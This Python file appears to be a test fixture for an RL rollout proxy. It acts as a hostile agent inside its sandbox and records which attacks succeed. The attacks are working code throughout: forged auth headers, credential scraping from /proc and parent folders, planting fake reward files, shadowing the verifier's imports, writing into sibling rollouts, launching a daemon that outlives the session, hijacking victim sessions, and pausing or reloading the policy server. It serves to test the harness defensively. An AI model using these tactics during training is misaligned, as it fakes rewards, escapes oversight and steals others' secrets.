"""A rollout agent that attacks agenttap from inside its rollout, as an agent under RL would
once it found that cheating pays: run by ``POST /rollouts`` as ``{"command": [python, this]}``
with the task (JSON: the control API's URL, a victim session's id) as its last argument.

It tries each attack, never stops at a failure, and writes what it got into ``report.json`` in
its working directory (the test reads it from the rollout's folder afterwards): status codes,
what it could read (``loot``: every text it found, for the test to search for secrets), what
it could write. Nothing here asserts; ``tests/e2e/hostile/test_adversary.py`` judges."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

MARKER = "hostile-daemon-4321"
LOOT_LIMIT = 4_000_000
TASK = json.loads(sys.argv[-1])
API: str = TASK["api"]
VICTIM: str = TASK["victim"]
SESSION = os.environ.get("AGENTTAP_SESSION", "")
# OUT on the host. A sandbox shows the agent its folders at fixed places (/workdir), so no
# host path is in sight; the test tells it where OUT is anyway, as an attacker may know.
_ABOVE = list(Path.cwd().parents)
OUT = Path(TASK["out"]) if TASK.get("out") else _ABOVE[min(3, len(_ABOVE) - 1)]
PROXY = os.environ.get("HTTPS_PROXY", "")
# http://ID:SECRET@HOST:PORT -> http://HOST:PORT
PROXY_HOSTPORT = PROXY.rpartition("@")[2]
report: dict[str, Any] = {"session": SESSION, "env_keys": sorted(os.environ)}
loot: list[str] = []
FORGED = {
    "X-Agenttap-Bearer": "ok",
    "X-Agenttap-Loopback": "1",
    "X-Agenttap-Token": "guess",
    "X-Agenttap-Host": "agenttap.local",
}


def attempt(name: str, fn: Any) -> None:
    try:
        report[name] = fn()
    except Exception as exc:  # an attack that fails is a result too
        report[name] = f"error: {type(exc).__name__}: {exc}"[:500]


def http(url: str, method: str = "GET", body: Any = None, headers: Any = None,
         via_proxy: bool = False) -> int:  # fmt: skip
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(url, data=data, method=method, headers=headers or {})
    proxies = {"http": f"http://{PROXY_HOSTPORT}"} if via_proxy else {}
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    try:
        with opener.open(req, timeout=30) as resp:
            loot.append(resp.read().decode(errors="replace"))
            return int(resp.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


def keep(text: str) -> None:
    if sum(map(len, loot)) < LOOT_LIMIT:
        loot.append(text)


def read_text(path: Path, limit: int = 200_000) -> str | None:
    try:
        with open(path, "rb") as fh:
            return fh.read(limit).decode(errors="replace")
    except OSError:
        return None


# -- 1. forged headers: the trainer's powers without its token ----------------------------------
attempt("forged_list_via_proxy", lambda: http("http://agenttap.local/sessions", headers=FORGED,
                                              via_proxy=True))  # fmt: skip
attempt("forged_list_on_api_port", lambda: http(f"{API}/sessions", headers=FORGED))
attempt(
    "forged_reward_via_proxy",
    lambda: http(
        f"http://agenttap.local/sessions/{SESSION}/reward", "POST", {"reward": 100.0}, FORGED, True
    ),
)
attempt(
    "forged_close_victim",
    lambda: http(f"{API}/sessions/{VICTIM}/close", "POST", {"reward": -5.0}, FORGED),
)
attempt(
    "forged_rollout",
    lambda: http(f"{API}/rollouts", "POST", {"agent": {"command": ["id"]}, "prompt": "x"}, FORGED),
)
attempt("flush_without_token", lambda: http("http://agenttap.local/flush", "POST", {},
                                            via_proxy=True))  # fmt: skip
attempt("rebinding_host", lambda: http(f"{API}/healthz", headers={"Host": "evil.example:80"}))
attempt(
    "cross_site_post",
    lambda: http(
        f"{API}/sess/web-page/v1/chat/completions",
        "POST",
        {"model": "m", "messages": [{"role": "user", "content": "from a web page"}]},
        {"Origin": "http://evil.example", "Content-Type": "text/plain"},
    ),
)


# -- 2. token hunting: every process's command line and environment, everything above us ------
def scan_proc() -> int:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for part in ("cmdline", "environ"):
            text = read_text(Path("/proc") / pid / part)
            if text:
                keep(text.replace("\0", " "))
    return len(pids)


def walk_up() -> int:
    """Every file readable in OUT and the (up to) four folders above the workdir but /."""
    seen = 0
    for ancestor in [OUT, *(p for p in list(Path.cwd().parents)[:4] if p != Path("/"))]:
        for root, _, files in os.walk(ancestor):
            for name in files:
                text = read_text(Path(root) / name)
                if text is not None:
                    seen += 1
                    keep(f"{root}/{name}: {text}")
    return seen


attempt("proc_pids_seen", scan_proc)
attempt("files_read_above_workdir", walk_up)
confdir = Path(os.environ.get("SSL_CERT_FILE", "/nonexistent")).parent
ca_key = read_text(confdir / "mitmproxy-ca.pem")
report["ca_key_readable"] = ca_key is not None
report["ca_cert_readable"] = (
    read_text(Path(os.environ.get("NODE_EXTRA_CA_CERTS", "/x"))) is not None
)
for name in sorted(os.listdir(confdir)) if confdir.is_dir() else []:
    text = read_text(confdir / name)
    if text:
        keep(text)
report["confdir_listing"] = sorted(os.listdir(confdir)) if confdir.is_dir() else []
report["out_listing"] = sorted(os.listdir(OUT)) if OUT.is_dir() else []


# -- 3. rewards without the API: plant a file (and its index line) in OUT/rewards ---------------
def plant_reward() -> str:
    import pyarrow as pa
    import pyarrow.parquet as pq

    folder = OUT / "rewards"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "rewards-99999999999999999999-hostile.parquet"
    table = pa.table({"session_id": [SESSION], "thread_id": pa.array([None], pa.string()),
                      "reward": [100.0], "set_at": [9e9]})  # fmt: skip
    pq.write_table(table, path)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    with open(folder / "_index.jsonl", "a") as fh:
        fh.write(json.dumps({"name": path.name, "sha256": digest}) + "\n")
    return "written"


attempt("plant_reward", plant_reward)


# -- 4. the verifier: shadow the stdlib it imports from the workdir -----------------------------
Path("json.py").write_text("import sys\nprint(1000.0)\nsys.exit(0)\n")
Path("tests").mkdir(exist_ok=True)
Path("tests/check.txt").write_text("tampered\n")


# -- 5. a sibling rollout's copy, and the host outside the sandbox ------------------------------
def write_sibling() -> list[str]:
    """pwned.txt into every other run's work folder it can find: beside its own, or under OUT."""
    mine = Path.cwd().parent
    done = []
    for sibling in mine.parent.iterdir() if mine.parent.is_dir() else []:
        if sibling != mine and (sibling / "work").is_dir():
            (sibling / "work" / "pwned.txt").write_text("from " + SESSION)
            done.append(str(sibling))
    for root, dirs, _ in os.walk(OUT / "rollouts"):
        if "work" in dirs:
            (Path(root) / "work" / "pwned.txt").write_text("from " + SESSION)
            done.append(root)
    return done


def write_outside() -> list[str]:
    written = []
    for target in [Path(TASK["outside"]), Path("/etc/hostile-agent"), OUT / "hostile.txt"]:
        try:
            target.write_text("pwned")
            written.append(str(target))
        except OSError:
            pass
    return written


attempt("sibling_writes", write_sibling)
attempt("outside_writes", write_outside)


# -- 6. a daemon that outlives the rollout ------------------------------------------------------
def daemon() -> int:
    code = f"import time; time.sleep(120)  # {MARKER}"
    proc = subprocess.Popen(["setsid", sys.executable, "-c", code], start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    return proc.pid


attempt("daemon_pid", daemon)


# -- 7. calls: the CA key as a prompt; a victim session by proxy username and by base URL -------
def call(proxy: str, text: str, extra_headers: dict[str, str] | None = None) -> int:
    import httpx
    import openai

    client = openai.OpenAI(
        api_key="sk-anything", max_retries=0, timeout=60, default_headers=extra_headers,
        http_client=httpx.Client(proxy=proxy, verify=os.environ["SSL_CERT_FILE"]),
    )  # fmt: skip
    try:
        client.chat.completions.create(model="m", messages=[{"role": "user", "content": text}])
    except openai.APIStatusError as exc:
        return exc.status_code
    return 200


victim_proxy = f"http://{VICTIM}:guess@{PROXY_HOSTPORT}"
attempt("own_call_with_ca_key", lambda: call(PROXY, "the key: " + (ca_key or "unreadable")))
attempt("victim_by_proxy_username", lambda: call(victim_proxy, "victim call"))
attempt("victim_by_bare_username", lambda: call(f"http://{VICTIM}@{PROXY_HOSTPORT}", "v"))
attempt("victim_by_session_header", lambda: call(PROXY, "own", {"X-Agenttap-Session": VICTIM}))
attempt("victim_by_base_url", lambda: http(
    f"{API}/sess/{VICTIM}/v1/chat/completions", "POST",
    {"model": "m", "messages": [{"role": "user", "content": "victim"}]},
    {"Authorization": "Bearer sk-guess", "Content-Type": "application/json"}))  # fmt: skip


# -- 8. the policy server: find it, swap its weights, pause it ----------------------------------
def listening_ports() -> list[int]:
    """Every TCP port listening in this network namespace (/proc/net/tcp{,6}, state 0A)."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in (read_text(Path(table)) or "").splitlines()[1:]:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def reachable(ports: list[int]) -> list[int]:
    import socket

    found = []
    for port in ports:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            found.append(port)
        except OSError:
            pass
    return found


def policy_attack(path: str, body: Any = None) -> str:
    try:
        return str(http(TASK["policy"] + path, "POST", body if body is not None else {}))
    except Exception as exc:
        return f"error: {type(exc).__name__}"


attempt("listening_ports", listening_ports)
# The host's own listeners, by number: the policy, other instances, vLLM's workers.
attempt("host_ports_reachable", lambda: reachable(TASK.get("host_ports", [])))
attempt(
    "policy_reload",
    lambda: policy_attack(
        "/collective_rpc", {"method": "reload_weights", "kwargs": {"weights_path": os.getcwd()}}
    ),
)
attempt("policy_pause", lambda: policy_attack("/pause?mode=keep"))
attempt("policy_sleep", lambda: policy_attack("/sleep?level=1"))


# -- 9. canaries: files planted around the host (the proxy's cwd, OUT's parent, /root, ...) ----
def canaries() -> list[str]:
    found = []
    for path in TASK.get("canaries", []):
        text = read_text(Path(path))
        if text is not None:
            found.append(path)
            keep(text)
    skip = {"/usr", "/proc", "/sys", "/dev"}
    for root, dirs, files in os.walk("/") if TASK.get("walk", True) else ():
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
        for name in files:
            text = read_text(Path(root) / name, 4096)
            if text and "AGENTTAP-CANARY" in text:
                found.append(os.path.join(root, name))
                keep(text)
    return sorted(set(found))


def reach_unix(path: str) -> str:
    import socket

    try:
        socket.socket(socket.AF_UNIX).connect(path)
        return "connected"
    except OSError as exc:
        return type(exc).__name__


attempt("canaries_found", canaries)
attempt("host_unix_socket", lambda: reach_unix(TASK.get("host_socket", "")))


# -- 10. traps for the verifier: a link to a host file, a FIFO that blocks whoever reads it ------
def traps() -> list[str]:
    made = []
    for name, target in (("answer.txt", "/etc/hostname"), ("up.txt", "../../../../token")):
        Path(name).symlink_to(target)
        made.append(name)
    os.mkfifo("stuck.txt")
    made.append("stuck.txt")
    return made


attempt("traps", traps)

report["loot"] = "\n".join(loot)[:LOOT_LIMIT]
Path("report.json").write_text(json.dumps(report))
print("hostile agent done")
